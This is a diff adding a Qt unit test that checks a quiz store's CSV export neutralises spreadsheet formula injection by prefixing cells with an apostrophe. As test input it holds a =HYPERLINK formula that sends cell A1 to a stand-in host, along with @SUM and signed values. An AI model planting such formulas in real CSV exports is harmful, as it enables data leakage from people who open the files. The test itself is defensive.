@@ -359,6 +359,26 @@ private Q_SLOTS:
         QVERIFY(csv.endsWith(",breathing,,,box,,,64,,0,\r\n"));
     }
 
+    // A quiz title such as =HYPERLINK(…) reaches the CSV as a question id; a spreadsheet must show it as
+    // text, not run it. Number cells are never changed.
+    void csvCellsAreNeverFormulas()
+    {
+        const qint64 id = m_store->startQuizAttempt(course, QStringLiteral("+m1"), QStringLiteral("quiz"), local(3, 29, 4));
+        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("=HYPERLINK(\"https://x.test/?\"&A1;\"klicka\")"), 0.5,
+                                          QStringLiteral("@SUM(1)"), local(3, 29, 4, 1)));
+        QVERIFY(m_store->recordQuizAnswer(id, QStringLiteral("-2+3"), 1, QStringLiteral("{}"), local(3, 29, 4, 2)));
+        const QString csvPath = m_dir->filePath(QStringLiteral("formulas.csv"));
+        QVERIFY(m_store->exportCsv(csvPath));
+        QFile csvFile(csvPath);
+        QVERIFY(csvFile.open(QIODevice::ReadOnly));
+        const QByteArray csv = csvFile.readAll();
+        const QByteArray first = QByteArray(",quiz_answer,kurs,'+m1,\"'=HYPERLINK(\"\"https://x.test/?\"\"&A1;\"\"klicka\"\")\",")
+            + QByteArray::number(id) + ",,,0.5,,'@SUM(1)\r\n";
+        QVERIFY2(csv.contains(first), csv.constData());
+        const QByteArray second = ",quiz_answer,kurs,'+m1,'-2+3," + QByteArray::number(id) + ",,,1,,{}\r\n";
+        QVERIFY2(csv.contains(second), csv.constData());
+    }
+
     void resetKeepsTheSchema()
     {
         const qint64 before = quiz(QStringLiteral("m1"), 90, 60, local(8, 1, 9));
